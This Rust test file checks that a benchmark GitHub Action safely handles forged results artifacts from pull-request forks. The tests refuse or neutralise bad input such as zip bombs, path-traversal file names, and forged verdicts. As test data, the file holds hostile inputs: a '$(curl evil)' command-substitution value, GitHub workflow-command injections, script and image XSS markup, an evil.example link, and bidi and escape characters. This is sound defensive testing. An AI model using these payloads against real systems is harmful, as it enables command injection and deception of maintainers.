//! The trusted half of a fork's run, when the fork means ill: whatever its artifact holds, the comment
//! says nothing false, stays one table and calls nobody.

use super::fork::{fork, fork_with, headline, only_comment, trusted};
use super::measured::{artifact, bare, packed, results, row};
use crate::fake::Fake;
use crate::support::run::Finished;
use serde_json::{Value, json};

fn slow() -> Value {
    results('b', &[row("slow", 1.2, "regressed"), row("same", 1.0, "unchanged")])
}

/// What is said of a forgery, and what it does.
type Forgery = (&'static str, fn(&mut Value));

/// What a fork whose artifact is these bytes gets: no results, in so many words, and exit code 13.
fn refused(artifact: Vec<u8>) -> (Finished, String) {
    let fake = fork_with(artifact);
    let told = trusted(&fake, &[]).expect(13);
    let body = only_comment(&fake);
    assert!(headline(&body).ends_with("left no results that can be used"), "{body}");
    assert!(body.starts_with("<!-- bench-action v1 key=bench head=bbbb"), "{body}");
    assert!(body.contains("content=nothing"), "{body}");
    assert_harmless(&body);
    assert!(told.stderr.len() < 3_000, "{}", told.stderr.len());
    let is_command = |line: &str| line.trim_start().starts_with("::");
    assert!(!told.stderr.lines().any(is_command), "{told}");
    (told, body)
}

/// No markup of others, nobody is called, nothing is referred to.
fn assert_harmless(body: &str) {
    let text = body.split_once('\n').unwrap().1;
    assert!(!text.contains(['\u{202e}', '\u{200b}', '\r']), "{text}");
    let data = outside_code(text).replace("&#", "&");
    for bad in ["@", "<!--", "<script", "](", "#1", "<img"] {
        assert!(!data.contains(bad), "{bad:?} in\n{data}");
    }
    for tag in ["details", "code", "pre", "summary", "sub"] {
        let count = |text: String| data.matches(&text).count();
        assert_eq!(count(format!("<{tag}>")), count(format!("</{tag}>")), "{tag} in\n{data}");
    }
}

/// What is neither in a code span nor in a fenced block: there nothing acts.
fn outside_code(text: &str) -> String {
    let mut fenced = false;
    let plain = |line: &str| line.split('`').step_by(2).collect::<String>();
    let lines = text.lines().filter_map(|line| {
        let is_fence = line.starts_with("```");
        fenced ^= is_fence;
        (!fenced && !is_fence).then(|| plain(line))
    });
    lines.collect::<Vec<_>>().join("\n")
}

#[test]
fn an_archive_of_more_than_the_one_file_is_refused() {
    let good = slow().to_string();
    let good = good.as_bytes();
    for (files, wanted) in [
        (&[("results.json", good), ("extra", b"")][..], "2 files"),
        (&[("../results.json", good)], "../results.json"),
        (&[("/etc/results.json", good)], "/etc/results.json"),
        (&[("x\n::error::@all", good)], "x"),
        (&[], "0 files"),
    ] {
        let (told, _) = refused(packed(files));
        assert!(told.stderr.contains(wanted), "{told}");
    }
    let (told, _) = refused(b"no archive".to_vec());
    assert!(told.stderr.contains("not a zip file"), "{told}");
}

#[test]
fn a_bomb_and_an_archive_beyond_the_cap_are_refused_without_being_held() {
    let bomb = vec![b' '; (64 << 20) + 1];
    let (told, _) = refused(packed(&[("results.json", &bomb)]));
    assert!(told.stderr.contains("unpacks to more than 64 MiB"), "{told}");
    let (told, _) = refused(vec![0; (8 << 20) + 1]);
    assert!(told.stderr.contains("more than 8 MiB"), "{told}");
}

#[test]
fn what_is_no_results_file_of_ours_is_refused() {
    let (told, _) = refused(packed(&[("results.json", br#"{"schema": "@all/v9"}"#)]));
    assert!(told.stderr.contains("schema"), "{told}");
    let text = slow().to_string();
    let not_a_number = text.replacen("\"alpha\":0.05", "\"alpha\":NaN", 1);
    let endless = text.replacen("\"alpha\":0.05", "\"alpha\":1e999", 1);
    let word = text.replacen("\"better\":\"lower\"", "\"better\":\"@all\\n::error::x\"", 1);
    let deep = "[".repeat(200_000);
    for text in [not_a_number, endless, word, deep] {
        assert_ne!(text, slow().to_string());
        let (told, _) = refused(packed(&[("results.json", text.as_bytes())]));
        assert!(told.stderr.contains("not a results file"), "{told}");
    }
}

#[test]
fn rows_and_texts_without_end_are_refused() {
    let many = vec![bare("x", "skipped"); 100_000];
    let (told, _) = refused(artifact(&results('b', &many)));
    assert!(told.stderr.contains("the number of rows is over the limit"), "{told}");
    for field in ["id", "name", "unit", "suite", "harness", "machine"] {
        let mut long = slow();
        long["benchmarks"][0][field] = json!("x".repeat(1 << 20));
        let (told, _) = refused(artifact(&long));
        assert!(
            told.stderr.contains("over the limit") || told.stderr.contains("over-long"),
            "{told}"
        );
    }
    let mut failed = bare("failed", "failed");
    failed["failure"] = json!({
        "side": "head", "stage": "run", "message": "m".repeat(1 << 20), "stderr_tail": "",
    });
    refused(artifact(&results('b', &[failed])));
}

#[test]
fn ten_megabytes_of_a_large_suite_are_read_and_make_one_comment_of_the_usual_length() {
    let mut rows: Vec<Value> = (0..17_000).map(|at| bare(&format!("b{at}"), "skipped")).collect();
    rows.push(row("slow", 1.2, "regressed"));
    let results = results('b', &rows);
    assert!(results.to_string().len() > 10_000_000);
    let fake = fork(&results);
    trusted(&fake, &["--fail-on", "regression"]).expect(10);
    let body = only_comment(&fake);
    assert!(headline(&body).starts_with("### ▲ 1 slower · in the contributor's run"), "{body}");
    assert!(body.len() <= 60_000 && body.contains("17,000 skipped"), "{}", body.len());
}

#[test]
fn numbers_out_of_all_proportion_and_ids_that_are_there_twice_are_refused() {
    for value in [json!(-1.0), json!(1e300)] {
        let mut forged = slow();
        forged["benchmarks"][0]["head"]["samples"][3]["value"] = value;
        let (told, _) = refused(artifact(&forged));
        assert!(told.stderr.contains("row `suite/slow`: a sample of"), "{told}");
    }
    let twice = results('b', &[row("a", 1.0, "unchanged"), row("a", 1.2, "regressed")]);
    let (told, _) = refused(artifact(&twice));
    assert!(told.stderr.contains("it is there twice"), "{told}");
    let mut other = slow();
    other["benchmarks"][0]["id"] = json!("suite/@all <b>");
    let (told, body) = refused(artifact(&other));
    assert!(told.stderr.contains("not made of its name"), "{told}");
    assert!(body.contains("&#64;<wbr>all"), "{body}");
}

#[test]
fn shards_that_are_not_of_one_run_are_refused() {
    let shard = |index: u32, change: &dyn Fn(&mut Value)| {
        let mut results = results('b', &[row(&format!("b{index}"), 1.0, "unchanged")]);
        results["shard"] = json!({ "index": index, "count": 2, "missing": [] });
        change(&mut results);
        (format!("bench-result-bench-shard{index}of2-attempt1"), false, artifact(&results))
    };
    let forgeries: [Forgery; 4] = [
        ("both are shard 1", |r| r["shard"]["index"] = json!(1)),
        ("seeds", |r| r["seed"] = json!("other")),
        ("settings", |r| r["settings"]["threshold"] = json!(9.0)),
        ("not the results of one shard", |r| r["shard"] = Value::Null),
    ];
    for (wanted, forge) in forgeries {
        let fake = fork(&slow());
        fake.state().artifacts = vec![shard(1, &|_| ()), shard(2, &forge)];
        let told = trusted(&fake, &[]).expect(13);
        assert!(told.stderr.contains(wanted), "{told}");
        let body = only_comment(&fake);
        assert!(headline(&body).ends_with("left no results that can be used"), "{body}");
        assert_harmless(&body);
    }
}

#[test]
fn numbers_at_the_edge_of_what_is_taken_break_nothing() {
    let last = |block: &Value| json!(u64::from(u32::MAX) - block.as_u64().unwrap());
    for values in [[0.0, 1e18], [5e-324, 1e18], [-1e100, 1e100], [1e-300, 1e100], [1e100, 1e100]] {
        let mut forged = slow();
        let row = &mut forged["benchmarks"][0];
        row["unit"] = json!(if values[0] < 0.0 || values[1] > 1e18 { "x" } else { "ns" });
        for (side, value) in ["base", "head"].into_iter().zip(values) {
            for sample in row[side]["samples"].as_array_mut().unwrap() {
                sample["value"] = json!(value);
                sample["block"] = last(&sample["block"]);
            }
        }
        for block in row["blocks"].as_array_mut().unwrap() {
            block["d"] = json!(f64::ln(values[1] / values[0]).clamp(-1e300, 1e300));
            block["index"] = last(&block["index"]);
            block["started_ms"] = json!(u64::MAX);
            block["order"] = json!(u32::MAX);
        }
        row["void"] = json!({ "base": u32::MAX, "head": u32::MAX, "reasons": [] });
        row["cost_s"] = json!(1e300);
        forged["plan"]["planned"] = json!(u64::MAX);
        forged["plan"]["screened"] = json!(u64::MAX);
        forged["settings"]["time_budget_s"] = json!(-1e300);
        forged["shard"] = json!({ "index": u32::MAX, "count": u32::MAX, "missing": [u32::MAX] });
        forged["machines"][0]["cores"] = json!(u32::MAX);
        forged["machines"][0]["memory"] = json!(u64::MAX);
        let fake = fork(&forged);
        let told = trusted(&fake, &["--fail-on", "never"]).expect(0);
        let body = only_comment(&fake);
        assert!(headline(&body).starts_with("### "), "{told}");
        assert!(!body.contains("NaN") && !body.contains("inf"), "{values:?}: {body}");
    }
}

/// The honest file after a forgery gives this headline, and fails for the regression.
fn forged(forge: impl Fn(&mut Value), expected: &str) -> String {
    let mut results = slow();
    forge(&mut results);
    let fake = fork(&results);
    trusted(&fake, &["--fail-on", "regression", "--check-run", "bench"]).expect(10);
    assert_eq!(fake.state().checks[0]["conclusion"], "neutral");
    let body = only_comment(&fake);
    assert_eq!(headline(&body), expected);
    assert_harmless(&body);
    body
}

const TRUTH: &str = "### ▲ 1 slower · 1 unchanged";

#[test]
fn a_forged_verdict_family_trust_or_label_makes_nothing_green() {
    forged(|r| r["benchmarks"][0]["verdict"] = json!("unchanged"), TRUTH);
    forged(|r| r["benchmarks"][0]["verdict"] = json!("inconclusive"), TRUTH);
    forged(|r| r["plan"]["family_size"] = json!(u64::MAX), TRUTH);
    forged(|r| r["benchmarks"][0]["labels"] = json!(["accepted"]), TRUTH);
    forged(|r| r["benchmarks"][0]["reason"] = json!("inputs-differ"), TRUTH);
    forged(|r| r["trust"] = json!({ "ok": false, "reason": "@all" }), TRUTH);
    forged(|r| r["summary"]["verdict"] = json!("improved"), TRUTH);
    let body = forged(
        |r| {
            r["warnings"] = json!(["@all ok"]);
            r["command"] = json!(["bench-action", "run", "$(curl evil)"]);
        },
        TRUTH,
    );
    assert!(!body.contains("evil") && !body.contains("all ok"), "{body}");
}

#[test]
fn a_forged_threshold_is_ours_again_and_said() {
    let other = format!("{TRUTH} · measured by other settings than this repository's");
    forged(|r| r["settings"]["threshold"] = json!(9.0), &other);
    forged(|r| r["settings"]["alpha"] = json!(1e-9), &other);
    forged(
        |r| {
            for row in r["benchmarks"].as_array_mut().unwrap() {
                row["rule"] = json!({ "threshold": 9.0, "tolerance": 8.0, "absolute": 1e12 });
            }
        },
        &other,
    );
}

#[test]
fn a_regression_called_identical_failed_or_skipped_is_never_called_unchanged() {
    for (pairing, verdict, words) in [
        ("identical", "unchanged", "called identical"),
        ("paired", "skipped", "skipped"),
        ("paired", "removed", "missing on head"),
        ("paired", "added", "only on head"),
    ] {
        let mut results = slow();
        results["benchmarks"][0]["pairing"] = json!(pairing);
        results["benchmarks"][0]["verdict"] = json!(verdict);
        let fake = fork(&results);
        trusted(&fake, &["--fail-on", "regression"]).expect(0);
        assert_eq!(
            headline(&only_comment(&fake)),
            format!(
                "### No change seen: 1 unchanged · in the contributor's run, unverified: 1 {words}"
            )
        );
    }
    let mut results = slow();
    results["benchmarks"][0]["pairing"] = json!("unpaired");
    results["benchmarks"][0]["verdict"] = json!("unchanged");
    let fake = fork(&results);
    trusted(&fake, &["--fail-on", "inconclusive"]).expect(11);
    assert_eq!(headline(&only_comment(&fake)), "### No change seen: 1 unchanged · 1 undecided");
}

#[test]
fn a_forged_pull_request_number_or_commit_leads_nowhere_else() {
    // There is no field for a number; whatever is added is not read.
    forged(|r| r["pull_request"] = json!({ "number": 7 }), TRUTH);
    forged(
        |r| r["sides"][1]["commit"] = json!("a".repeat(40)),
        &format!("{TRUTH} · said to be of aaaaaaa, another commit"),
    );
    // GitHub would find a branch of this name, or one of many commits that begin so.
    forged(
        |r| r["sides"][0]["commit"] = json!("2222222"),
        &format!(
            "{TRUTH} · said to be compared with 2222222, which was not found on the base branch"
        ),
    );
    forged(
        |r| r["sides"][0]["dirty"] = json!(true),
        &format!("{TRUTH} · said to be compared with no commit of the base branch"),
    );
    forged(
        |r| r["sides"][1]["commit"] = json!("@all"),
        &format!("{TRUTH} · said to be of no commit"),
    );
}

/// Pieces that mean something to GitHub, to a runner, or to somebody's eyes.
const TRICKS: [&str; 14] = [
    "a|b",
    "`code` ``x",
    "<script>alert(1)</script><img src=x>",
    "@maintainer and #1 and org/hello#1",
    "-->",
    "</code></details>",
    "::set-output name=x::y",
    "::error::x",
    "line\nbreak\r\n| a | b |",
    "\u{202e}evil\u{2066}\u{200b}",
    "[x](https://evil.example)",
    "**bold** __init__ ~~x~~",
    "{{ headline }}{% for %}",
    "\u{1b}[2J\u{0}",
];

#[test]
fn hostile_names_and_messages_stay_text_in_one_table() {
    let renamed = |mut row: Value, trick: &str, at: usize| {
        let name = format!("{trick}{at}");
        row["name"] = json!(name);
        row["params"] = json!([{ "name": trick, "value": trick }]);
        row["benchmark"] = json!(format!("suite/{name}({trick}={trick})"));
        row["id"] = row["benchmark"].clone();
        row
    };
    let mut rows = Vec::new();
    for (at, trick) in TRICKS.iter().enumerate() {
        rows.push(renamed(row("x", 1.2, "regressed"), trick, at));
        let mut failed = renamed(bare("x", "failed"), trick, 100 + at);
        failed["failure"] = json!({
            "side": "head", "stage": trick, "message": trick, "stderr_tail": trick.repeat(200),
        });
        rows.push(failed);
        let mut skipped = renamed(bare("x", "skipped"), trick, 200 + at);
        skipped["reason"] = json!(trick);
        rows.push(skipped);
    }
    let mut results = results('b', &rows);
    results["machines"][0]["cpu"] = json!(TRICKS.concat());
    results["seed"] = json!(TRICKS.concat());
    results["sides"][0]["label"] = json!(TRICKS.concat());
    results["harnesses"][0]["version"] = json!(TRICKS.concat());
    let fake = fork(&results);
    let told = trusted(&fake, &["--check-run", "bench", "--fail-on", "never"]).expect(0);
    assert!(!told.stderr.contains("::"), "{told}");
    let body = only_comment(&fake);
    assert_harmless(&body);
    assert_harmless(&format!(
        "\n{}",
        fake.state().checks[0]["output"]["summary"].as_str().unwrap()
    ));
    let is_row = |line: &&str| line.starts_with('|');
    let table: Vec<&str> = body.lines().skip_while(|l| !is_row(l)).take_while(is_row).collect();
    assert_eq!(table.len(), 2 + TRICKS.len(), "{body}");
    assert!(table.iter().all(|line| line.matches('|').count() == 7), "{table:#?}");
    assert!(headline(&body).starts_with("### ▲ 14 slower · in the contributor's run"), "{body}");
    assert!(body.len() <= 60_000);
}

#[test]
fn a_megabyte_of_text_where_no_cap_looks_is_left_out_or_cut() {
    let mut results = slow();
    let long = "@all ".repeat(200_000);
    results["warnings"] = json!([long]);
    results["created"] = json!(long);
    results["seed"] = json!(long);
    results["command"] = json!([long]);
    results["benchmarks"][0]["reason"] = json!(long);
    results["benchmarks"][0]["labels"] = json!([long]);
    results["benchmarks"][0]["void"]["reasons"] = json!([long]);
    results["sides"][0]["label"] = json!(long);
    results["machines"][0]["runner"] = json!(long);
    results["environments"][0]["packages"] = json!([long]);
    let fake: Fake = fork(&results);
    trusted(&fake, &[]).expect(0);
    let body = only_comment(&fake);
    assert_eq!(headline(&body), TRUTH);
    assert_harmless(&body);
    assert!(body.len() < 10_000, "{}", body.len());
}
